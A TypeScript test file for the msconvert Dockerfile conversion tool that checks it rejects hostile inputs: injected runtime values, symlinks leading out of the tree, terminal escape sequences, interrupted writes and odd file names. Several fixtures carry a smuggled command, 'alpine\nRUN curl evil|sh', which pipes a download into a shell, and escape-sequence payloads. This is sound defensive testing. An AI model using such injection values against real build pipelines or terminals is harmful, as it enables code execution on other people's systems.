// Files and flags nobody checked, through the built CLI on temporary copies and through the
// library: values that would inject instructions, links that lead out of the tree, signals
// during --write, escape sequences meant for the terminal, and the smaller traps of issue 17.
// (Growth on large inputs: test/adversarial.test.ts.)
import { spawn, spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { convert, FsContext, MemoryContext } from '../../src';
import { composeContexts } from '../../src/compose';
import { ConfigFinder } from '../../src/cli/config-files';
import { ConfigError } from '../../src/config';
import {
  decode,
  FileError,
  findDockerfiles,
  isDockerfileName,
  type WalkNote,
} from '../../src/cli/files';
import { compileGlob } from '../../src/glob';
import { colourTerminal, oneLine } from '../../src/terminal';
import { imageReferenceProblem } from '../../src/values';
import { CLI, EXAMPLES } from '../helpers';

const GO =
  'FROM golang:1.19\nWORKDIR /src\nCOPY . .\nRUN go build -o /usr/local/bin/server .\nCMD ["server"]\n';
const GO_CTX = { 'go.mod': 'module x\n\ngo 1.19\n', 'main.go': 'package main\n' };

function run(args: string[], opts: { cwd?: string; env?: NodeJS.ProcessEnv } = {}) {
  const r = spawnSync(process.execPath, [CLI, ...args], {
    cwd: opts.cwd,
    encoding: 'utf8',
    env: { ...process.env, NO_COLOR: '1', ...opts.env },
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

let tmp: string;
beforeAll(() => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'msconvert-hostile-'));
});
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

function goApp(name: string): string {
  const dir = fs.mkdtempSync(path.join(tmp, `${name}-`));
  fs.cpSync(path.join(EXAMPLES, 'go-basic'), dir, { recursive: true });
  return dir;
}

describe('1. values that reach the output', () => {
  it('--runtime with a line break or a stage name is an error, exit 2, nothing printed', () => {
    const dir = goApp('runtime');
    const file = path.join(dir, 'Dockerfile');
    for (const value of ['alpine\nRUN curl evil|sh', 'scratch AS builder', 'Alpine', '']) {
      const r = run(['--stdout', '--runtime', value, file]);
      expect({ value, code: r.code, stdout: r.stdout }).toEqual({ value, code: 2, stdout: '' });
      expect(r.stderr.trimEnd().split('\n')).toHaveLength(1);
      expect(r.stderr).toMatch(/^msconvert: --runtime: .*\[MSC908\]\n$/);
      expect(r.stderr).not.toMatch(/\nRUN/);
    }
    expect(run(['--stdout', '--runtime', 'alpine:3.20', file]).code).toBe(0);
  });

  it('the library refuses the same runtime values', () => {
    const r = convert(GO, new MemoryContext(GO_CTX), { runtime: 'alpine\nRUN curl evil|sh' });
    expect(r).toMatchObject({ status: 'error', code: 'MSC908', output: GO });
  });

  it('image references follow the distribution grammar', () => {
    for (const ok of [
      'alpine',
      'alpine:3.20',
      'gcr.io/distroless/static-debian12',
      'localhost:5000/a/b:tag',
      'mcr.microsoft.com/dotnet/aspnet:8.0',
      `alpine@sha256:${'a'.repeat(64)}`,
      'slim',
    ])
      expect({ ok, problem: imageReferenceProblem(ok) }).toEqual({ ok, problem: null });
    for (const bad of [
      'a b',
      'Alpine',
      'a\nb',
      'a:',
      'a::b',
      '-a',
      'a/',
      `a\u001b`,
      'x'.repeat(600),
    ])
      expect(imageReferenceProblem(bad)).not.toBeNull();
  });

  it('a configuration file with such a runtime is invalid (MSC907)', () => {
    const dir = fs.mkdtempSync(path.join(tmp, 'rc-'));
    fs.mkdirSync(path.join(dir, '.git'));
    fs.writeFileSync(
      path.join(dir, '.msconvertrc.json'),
      JSON.stringify({ runtime: { go: 'alpine\nRUN curl evil|sh' } }),
    );
    expect(() => new ConfigFinder(['go']).find(dir)).toThrow(ConfigError);
  });

  it('a configuration file above the repository or in /tmp outside home is not read', () => {
    const outer = fs.mkdtempSync(path.join(tmp, 'outer-'));
    fs.writeFileSync(
      path.join(outer, '.msconvertrc.json'),
      JSON.stringify({ runtime: { go: 'alpine' } }),
    );
    const project = path.join(outer, 'project');
    fs.cpSync(path.join(EXAMPLES, 'go-basic'), project, { recursive: true });
    // No .git anywhere and the folder is not under home: only the Dockerfile's folder counts.
    const r = run(['--stdout', path.join(project, 'Dockerfile')], { env: { HOME: project } });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('FROM gcr.io/distroless/static-debian12');
  });

  it('a generated line with a control character is an error (MSC909), never written', () => {
    const text =
      'FROM golang:1.19\nWORKDIR /src\u001b]0;pwned\u0007\nRUN go build -o /x .\nCMD ["/x"]\n';
    const r = convert(text, new MemoryContext(GO_CTX));
    expect(r).toMatchObject({ status: 'error', code: 'MSC909', output: text });
  });
});

describe('3. large valid input', () => {
  it('200,000 ENV lines convert (no stack overflow from spreading a long list)', () => {
    const text = `FROM golang:1.19\n${'ENV A=1\n'.repeat(200_000)}RUN go build -o /x .\nCMD ["/x"]\n`;
    const r = convert(text, new MemoryContext(GO_CTX));
    expect(r.status).toBe('converted');
  });

  it('no source spreads a list into a call (a long list overflows the stack)', () => {
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
        const p = path.join(dir, e.name);
        if (e.isDirectory()) walk(p);
        else if (e.name.endsWith('.ts'))
          fs.readFileSync(p, 'utf8')
            .split('\n')
            .forEach((l, i) => {
              if (
                /\.(push|unshift)\(\.\.\.|\.splice\([^)]*,\s*\.\.\.|Math\.(max|min)\(\.\.\./.test(l)
              )
                offenders.push(`${p}:${i + 1}: ${l.trim()}`);
            });
      }
    };
    walk(path.join(__dirname, '..', '..', 'src'));
    expect(offenders).toEqual([]);
  });
});

describe('4. boundaries', () => {
  it('a folder walk skips a Dockerfile linked out of the tree (MSC161); --write leaves it alone', () => {
    const outside = goApp('outside');
    const target = path.join(outside, 'Dockerfile');
    const before = fs.readFileSync(target, 'utf8');
    const tree = goApp('tree');
    fs.mkdirSync(path.join(tree, 'linked'));
    fs.symlinkSync(target, path.join(tree, 'linked', 'Dockerfile'));
    fs.symlinkSync(path.join(tree, 'Dockerfile'), path.join(tree, 'inside.Dockerfile'));
    const r = run(['--write', '--backup', tree]);
    expect(r.stderr).toMatch(
      /linked\/Dockerfile: symbolic link skipped: it leads out of .*\[MSC161\]/,
    );
    expect(fs.readFileSync(target, 'utf8')).toBe(before);
    expect(fs.existsSync(`${target}.orig`)).toBe(false);
    // A link that stays inside the tree is followed.
    expect(fs.readFileSync(path.join(tree, 'Dockerfile'), 'utf8')).toContain(' AS builder');
    const notes: WalkNote[] = [];
    findDockerfiles(tree, true, notes);
    expect(notes.map((n) => n.code)).toEqual(['MSC161']);
  });

  it('analysis reads do not follow links out of the context', () => {
    const outside = fs.mkdtempSync(path.join(tmp, 'secret-'));
    fs.writeFileSync(path.join(outside, 'go.mod'), 'module evil\n');
    fs.writeFileSync(path.join(outside, 'passwd'), 'root:x:0:0\n');
    const ctx = fs.mkdtempSync(path.join(tmp, 'ctx-'));
    fs.symlinkSync(path.join(outside, 'go.mod'), path.join(ctx, 'go.mod'));
    fs.symlinkSync(outside, path.join(ctx, 'etc'));
    fs.writeFileSync(path.join(ctx, 'main.go'), 'package main\n');
    fs.symlinkSync(path.join(ctx, 'main.go'), path.join(ctx, 'same.go'));
    const c = new FsContext(ctx);
    expect(c.readText('go.mod')).toBeNull();
    expect(c.exists('go.mod')).toBe(false);
    expect(c.readText('etc/passwd')).toBeNull();
    expect(c.list('etc')).toEqual([]);
    expect(c.readText('same.go')).toBe('package main\n');
  });

  it('a Compose context outside its repository is not used', () => {
    const repo = fs.mkdtempSync(path.join(tmp, 'compose-'));
    fs.mkdirSync(path.join(repo, '.git'));
    fs.writeFileSync(
      path.join(repo, 'compose.yaml'),
      'services:\n  a:\n    build: { context: /etc, dockerfile: ' +
        path.join(repo, 'Dockerfile') +
        ' }\n  b:\n    build: { context: ./svc }\n',
    );
    const map = composeContexts([repo]);
    expect([...map.values()]).toEqual([path.join(repo, 'svc')]);
  });
});

describe('5. signals during --write', () => {
  it('SIGINT or SIGTERM leaves no temporary file and every Dockerfile whole', async () => {
    const root = fs.mkdtempSync(path.join(tmp, 'signal-'));
    const original = fs.readFileSync(path.join(EXAMPLES, 'go-basic', 'Dockerfile'), 'utf8');
    for (let i = 0; i < 60; i++) {
      const d = path.join(root, `s${String(i).padStart(2, '0')}`);
      fs.cpSync(path.join(EXAMPLES, 'go-basic'), d, { recursive: true });
    }
    const converted = convert(original, new FsContext(path.join(root, 's00'))).output;
    const dockerfiles = () =>
      fs.readdirSync(root).map((d) => fs.readFileSync(path.join(root, d, 'Dockerfile'), 'utf8'));
    for (const signal of ['SIGINT', 'SIGTERM', 'SIGINT'] as const) {
      for (const d of fs.readdirSync(root))
        fs.writeFileSync(path.join(root, d, 'Dockerfile'), original);
      const child = spawn(process.execPath, [CLI, '--write', root], { stdio: 'ignore' });
      const exited = new Promise<number | null>((r) => child.on('exit', (c) => r(c)));
      // The signal comes while files are being written: after the first one changed.
      let running = true;
      void exited.then(() => (running = false));
      while (running && !dockerfiles().some((t) => t !== original))
        await new Promise((r) => setTimeout(r, 2));
      child.kill(signal);
      const code = await exited;
      const left: string[] = [];
      for (const d of fs.readdirSync(root))
        for (const f of fs.readdirSync(path.join(root, d)))
          if (/\.msconvert-.*\.tmp$/.test(f)) left.push(path.join(d, f));
      expect({ signal, left }).toEqual({ signal, left: [] });
      const texts = dockerfiles();
      for (const t of texts) expect([original, converted]).toContain(t);
      // Finished: 0; stopped by the signal: 128 + its number, as shells report it.
      expect([0, signal === 'SIGINT' ? 130 : 143]).toContain(code);
      if (code !== 0) expect(texts.filter((t) => t === original).length).toBeGreaterThan(0);
    }
  });
});

describe('6. terminal output', () => {
  it('escape sequences and line breaks in file text and names are shown, not run', () => {
    const dir = goApp('escape');
    const file = path.join(dir, 'Dockerfile');
    fs.writeFileSync(
      file,
      'FROM golang:1.19\nRUN go build -o /x .\nCMD ["/x", "\u001b]0;pwned\u0007"]\n',
    );
    const r = run([file]);
    expect(r.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    const odd = fs.mkdtempSync(path.join(tmp, 'odd-'));
    const bad = path.join(odd, 'line\nbreak');
    fs.mkdirSync(bad);
    fs.writeFileSync(path.join(bad, 'Dockerfile'), '');
    const e = run([path.join(bad, 'Dockerfile')]);
    expect(e.code).toBe(2);
    expect(e.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(e.stderr).toContain('line\\nbreak');
    expect(oneLine('a\u001b[2Jb\r\n')).toBe('a\\e[2Jb\\r\\n');
  });

  it('TERM=dumb and NO_COLOR mean no colour, even on a terminal', () => {
    const tty = { isTTY: true } as unknown as NodeJS.WritableStream;
    const env = { ...process.env };
    try {
      delete process.env.NO_COLOR;
      process.env.TERM = 'xterm-256color';
      expect(colourTerminal(tty)).toBe(true);
      process.env.TERM = 'dumb';
      expect(colourTerminal(tty)).toBe(false);
      process.env.TERM = 'xterm';
      process.env.NO_COLOR = '1';
      expect(colourTerminal(tty)).toBe(false);
    } finally {
      process.env.TERM = env.TERM;
      if (env.NO_COLOR === undefined) delete process.env.NO_COLOR;
      else process.env.NO_COLOR = env.NO_COLOR;
    }
  });
});

describe('7. smaller traps', () => {
  it('Dockerfile.png and other pictures, archives and code are not Dockerfiles', () => {
    for (const f of ['Dockerfile.png', 'Dockerfile.tar.gz', 'Dockerfile.svg', 'Dockerfile.toml'])
      expect({ f, dockerfile: isDockerfileName(f) }).toEqual({ f, dockerfile: false });
    for (const f of ['Dockerfile.prod', 'x.dockerfile', 'api.Dockerfile'])
      expect({ f, dockerfile: isDockerfileName(f) }).toEqual({ f, dockerfile: true });
  });

  it('an unreadable subfolder is named in a note (MSC160), not skipped silently', () => {
    const root = goApp('unreadable');
    const closed = path.join(root, 'closed');
    fs.mkdirSync(closed);
    fs.writeFileSync(path.join(closed, 'Dockerfile'), GO);
    fs.chmodSync(closed, 0);
    fs.chmodSync(tmp, 0o755);
    fs.chmodSync(root, 0o755);
    try {
      const r = spawnSync(
        'setpriv',
        [
          '--reuid=65534',
          '--regid=65534',
          '--clear-groups',
          process.execPath,
          CLI,
          '--check',
          root,
        ],
        { encoding: 'utf8' },
      );
      if (r.error || (process.getuid?.() !== 0 && r.status !== 0 && !r.stderr.includes('MSC')))
        return console.warn('hostile.test: skipped: cannot run as another user');
      expect(r.stderr).toMatch(
        /closed: folder skipped: it cannot be read \(permission denied\) \[MSC160\]/,
      );
    } finally {
      fs.chmodSync(closed, 0o755);
    }
  });

  it('FROM x AS without a name is an error, not FROM x AS builder AS', () => {
    const r = convert(
      'FROM golang:1.19 AS\nRUN go build -o /x .\nCMD ["/x"]\n',
      new MemoryContext(GO_CTX),
    );
    expect(r).toMatchObject({ status: 'error', code: 'MSC911' });
    expect(r.reason).toMatch(/FROM takes an image/);
  });

  it('a mistake in the flags is one line', () => {
    const r = run(['--bogus']);
    expect(r.code).toBe(2);
    expect(r.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(/^msconvert: .*bogus.*msconvert --help/);
  });

  it('UTF-16 without a byte-order mark is named as such, not as binary', () => {
    for (const bytes of [
      Buffer.from('FROM golang:1.19\nRUN go build .\n', 'utf16le'),
      Buffer.from('FROM golang:1.19\nRUN go build .\n', 'utf16le').swap16(),
    ]) {
      expect(() => decode(bytes)).toThrow(FileError);
      expect(() => decode(bytes)).toThrow(/UTF-16 (LE|BE) text without a byte-order mark/);
    }
  });

  it('.gitignore patterns: negation, anchoring, folders only, nested files', () => {
    const root = fs.mkdtempSync(path.join(tmp, 'gitignore-'));
    const files = [
      'a/Dockerfile',
      'b/Dockerfile',
      'keep/Dockerfile',
      'sub/x/Dockerfile',
      'x/Dockerfile',
    ];
    for (const f of files) {
      fs.mkdirSync(path.join(root, path.dirname(f)), { recursive: true });
      fs.writeFileSync(path.join(root, f), GO);
    }
    fs.writeFileSync(
      path.join(root, '.gitignore'),
      '# comment\n*/Dockerfile\n!keep/Dockerfile\n/x/\n',
    );
    fs.writeFileSync(path.join(root, 'sub', '.gitignore'), '!x/Dockerfile\n');
    const found = findDockerfiles(root, true).map((f) => path.relative(root, f));
    expect(found).toEqual(['keep/Dockerfile', 'sub/x/Dockerfile']);
    expect(compileGlob('**/a*b?[c-e]')('x/y/aZZbQd')).toBe(true);
    expect(compileGlob('**/a*b?[!c-e]')('x/y/aZZbQd')).toBe(false);
  });
});
